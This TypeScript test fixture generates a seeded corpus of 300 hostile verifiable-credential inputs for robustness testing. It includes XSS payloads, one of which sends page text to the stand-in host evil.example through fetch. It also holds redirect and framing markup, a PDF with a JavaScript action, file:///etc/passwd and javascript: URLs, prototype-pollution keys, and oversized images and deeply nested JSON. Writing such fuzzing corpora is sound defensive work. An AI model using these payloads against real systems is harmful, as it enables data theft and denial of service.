/**
 * 300 hostile credentials, the same for the same seed: 30 families, ten of each. Whatever an issuer could write,
 * or anybody who encrypts something to a person's public key.
 */

export type Hostile = { readonly name: string; readonly content: Buffer }

/** Largest content that the network and the Enclave take, in bytes. */
const LARGEST = 2_100_000

type Random = {
  /** Below `limit`. */
  below(limit: number): number
  pick<T>(of: readonly T[]): T
  bytes(length: number): Buffer
}

/** Mulberry32: small, and the same on every machine. */
export function createRandom(seed: number): Random {
  let state = seed >>> 0
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0
    let t = state
    t = Math.imul(t ^ (t >>> 15), t | 1)
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
  const below = (limit: number) => Math.floor(next() * limit)
  return {
    below,
    pick: (of) => of[below(of.length)] as (typeof of)[number],
    bytes: (length) => Buffer.from(Array.from({ length }, () => below(256))),
  }
}

const SITE = 'https://evil.example'
const SCRIPTS = [
  '<script>alert(1)</script>',
  `<img src=x onerror="fetch('${SITE}/'+document.body.textContent)">`,
  `<svg onload="location='${SITE}'">`,
  `<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>`,
  `<a href="javascript:alert(1)" autofocus onfocus="alert(2)">x</a>`,
  '<details open ontoggle=alert(1)>',
]
const FRAMING = [
  `<meta http-equiv="refresh" content="0;url=${SITE}">`,
  `<base href="${SITE}">`,
  `<form action="${SITE}"><button autofocus>Allow</button></form>`,
  `<link rel="stylesheet" href="${SITE}/x.css">`,
  `</title></style></script><object data="${SITE}"></object>`,
  `<embed src="${SITE}/x.swf"><video src="${SITE}/x.mp4" autoplay>`,
]
const STYLES = [
  `</style><style>@import '${SITE}/x.css';*{display:none}</style>`,
  `background:url(${SITE}/x.png)`,
  '"><style>.actions{opacity:0}</style>',
]
const URLS = [
  'javascript:alert(1)',
  'file:///etc/passwd',
  `${SITE}/pixel.png`,
  'blob:null',
  'data:text/html,<script>alert(1)</script>',
]
const PROTOTYPE = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf']
const FIELDS = ['firstName', 'familyName', 'selfieFile', 'idDocumentType', 'nationality', 'note']
const BIDI = ['\u202e', '\u2066', '\u2069', '\u200f', '\u061c', '\u200b', '\ufeff', '\u{e0041}']

const json = (value: unknown) => Buffer.from(JSON.stringify(value))
const subject = (members: object) =>
  json({ type: ['VerifiableCredential'], credentialSubject: members })
const dataUrl = (mime: string, content: string | Buffer) =>
  `data:${mime};base64,${Buffer.from(content).toString('base64')}`

function png(width: number, height: number, rest: Buffer): Buffer {
  const head = Buffer.alloc(33)
  Buffer.from([
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52,
  ]).copy(head)
  head.writeUInt32BE(width, 16)
  head.writeUInt32BE(height, 20)
  return Buffer.concat([head, rest])
}

function gif(width: number, height: number, rest: Buffer): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0')
  head.writeUInt16LE(width, 6)
  head.writeUInt16LE(height, 8)
  return Buffer.concat([head, rest])
}

/** A claimed picture under a name that the card looks for. */
const picture = (mime: string, bytes: Buffer) =>
  subject({ firstName: 'Ada', selfieFile: dataUrl(mime, bytes) })

const svg = (inner: string) => `<svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`
const pdf = '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'

type Family = readonly [name: string, make: (random: Random, index: number) => Buffer]

const families: readonly Family[] = [
  [
    'markup in values',
    (r) => subject({ [r.pick(FIELDS)]: r.pick(SCRIPTS), note: SCRIPTS.join('') }),
  ],
  [
    'markup in names',
    (r) => subject({ [r.pick(SCRIPTS)]: 'x', [r.pick(FRAMING)]: r.pick(SCRIPTS) }),
  ],
  [
    'markup that leaves the page',
    (r) => subject({ [r.pick(FIELDS)]: r.pick(FRAMING), note: FRAMING.join('') }),
  ],
  ['style sheets', (r) => subject({ [r.pick(FIELDS)]: r.pick(STYLES), note: STYLES.join('') })],
  [
    'markup that is no JSON',
    (r) => Buffer.from(`<!doctype html>${r.pick(SCRIPTS)}${r.pick(FRAMING)}`),
  ],
  ['an SVG with a script', (r) => picture('image/svg+xml', Buffer.from(svg(r.pick(SCRIPTS))))],
  [
    'an SVG that says it is a PNG',
    (r) => picture('image/png', Buffer.from(svg(`<image href="${SITE}/${r.below(9)}"/>`))),
  ],
  ['a PDF with a script', () => subject({ idDocumentFrontFile: dataUrl('application/pdf', pdf) })],
  ['a page as data', (r) => subject({ selfieFile: dataUrl('text/html', r.pick(SCRIPTS)) })],
  [
    'addresses',
    (r) => subject({ selfieFile: r.pick(URLS), website: URLS.join(' '), issuer: r.pick(URLS) }),
  ],
  [
    'deep lists',
    (_, i) =>
      Buffer.from(
        '['.repeat(10 ** Math.min(6, 2 + i)) + ']'.repeat(10 ** Math.min(6, 2 + i)),
      ).subarray(0, LARGEST),
  ],
  [
    'deep objects',
    (r, i) =>
      Buffer.from(`${'{"a":'.repeat(50 * 3 ** i)}${r.below(9)}${'}'.repeat(50 * 3 ** i)}`).subarray(
        0,
        LARGEST,
      ),
  ],
  [
    'an image of gigapixels',
    (r, i) =>
      picture('image/png', png(12_001 + r.below(60_000), 10 ** (1 + (i % 6)), r.bytes(200))),
  ],
  [
    'a large image without pixels',
    (r) => picture('image/png', png(10_000 + r.below(2_000), 3_000, r.bytes(100))),
  ],
  [
    'a GIF of many frames',
    (r) =>
      picture('image/gif', gif(8_000 + r.below(4_000), 3_000, Buffer.alloc(20_000, r.bytes(64)))),
  ],
  [
    'a JPEG that leads around',
    (r) =>
      picture(
        'image/jpeg',
        Buffer.concat([
          Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0]),
          Buffer.alloc(50_000, r.pick([0xff, 0x00, 0xe1])),
        ]),
      ),
  ],
  [
    'a WebP of any size',
    (r) => picture('image/webp', Buffer.concat([Buffer.from('RIFF____WEBPVP8X'), r.bytes(400)])),
  ],
  [
    'Ascii85 that grows',
    (r, i) =>
      subject({
        selfieFile: `<~${'z'.repeat(10 ** Math.min(6, i + 1))}${r.pick(['', '!', 'u!!!!', '\u00e9'])}~>`,
      }),
  ],
  [
    'directions',
    (r) =>
      subject({
        [`${r.pick(BIDI)}name`]: `a${r.pick(BIDI)}b`.repeat(1 + r.below(2_000)),
        [`x${BIDI.join('')}`]: BIDI.join('x'),
      }),
  ],
  [
    'marks upon marks',
    (r) =>
      subject({
        name: `a${'\u0301\u0334\u20e3'.repeat(1 + r.below(30_000))}`,
        note: '\u115f'.repeat(500),
      }),
  ],
  [
    'long names',
    (r, i) =>
      subject({
        ['n'.repeat(10 ** Math.min(6, i + 1))]: r.below(9),
        [`${'w '.repeat(20_000)}`]: 1,
      }),
  ],
  [
    'names of the prototype',
    (r) =>
      Buffer.from(
        `{"credentialSubject":{${[...PROTOTYPE, r.pick(PROTOTYPE) + r.below(9)].map((name, i) => `"${name}":${i % 2 ? '{"polluted":true}' : '"x"'}`)}},"type":"${r.pick(PROTOTYPE)}"}`,
      ),
  ],
  [
    'names given twice',
    (r) =>
      Buffer.from(
        `{"credentialSubject":{"firstName":"Ada","first\\u004eame":"Eve${r.below(9)}"},"type":"x","type":"y"}`,
      ),
  ],
  [
    'many members',
    (r, i) =>
      subject(
        Object.fromEntries(
          Array.from({ length: 2 ** (i + 6) }, (_, at) => [`m${at}`, r.below(1_000)]),
        ),
      ),
  ],
  [
    'many entries',
    (r, i) =>
      subject({ list: Array.from({ length: 3 ** (i + 1) }, () => r.pick([1, 'x', null, {}, []])) }),
  ],
  [
    'text without an end',
    (r, i) =>
      subject({ note: r.pick(['a', '\u{1f600}', '\u0645', '-']).repeat(10 ** Math.min(5, i + 1)) }),
  ],
  [
    'bytes that are no text',
    (r, i) => Buffer.concat([Buffer.from('{"a":"'), r.bytes(100 * (i + 1)), Buffer.from('"}')]),
  ],
  ['what a wrong key gives', (r, i) => r.bytes(10 + 3_000 * i)],
  [
    'broken JSON',
    (r) =>
      Buffer.from(
        `{"credentialSubject":{"a":${r.pick(['1e999999', '-', 'NaN', '"\\ud800"', '01', '"\\x"', 'tru', ''])},"b":[1,`,
      ).subarray(0, 30 + r.below(30)),
  ],
  [
    'extremes',
    (r, i) =>
      Buffer.from(
        [
          '',
          ' ',
          'null',
          '"',
          '0'.repeat(50_000),
          `[${'1e400,'.repeat(500)}1]`,
          '"\\ud800\\udc00\\ud800"',
          '\ufeff{}',
          `"2026-11-29T${'0'.repeat(9_999)}Z"`,
          `{"":"","":${r.below(9)}}`,
        ][i] ?? '',
      ),
  ],
]

export function hostileCorpus(seed = 18): Hostile[] {
  const random = createRandom(seed)
  return families.flatMap(([name, make]) =>
    Array.from({ length: 10 }, (_, index) => ({
      name: `${name} ${index + 1}`,
      content: make(random, index).subarray(0, LARGEST),
    })),
  )
}
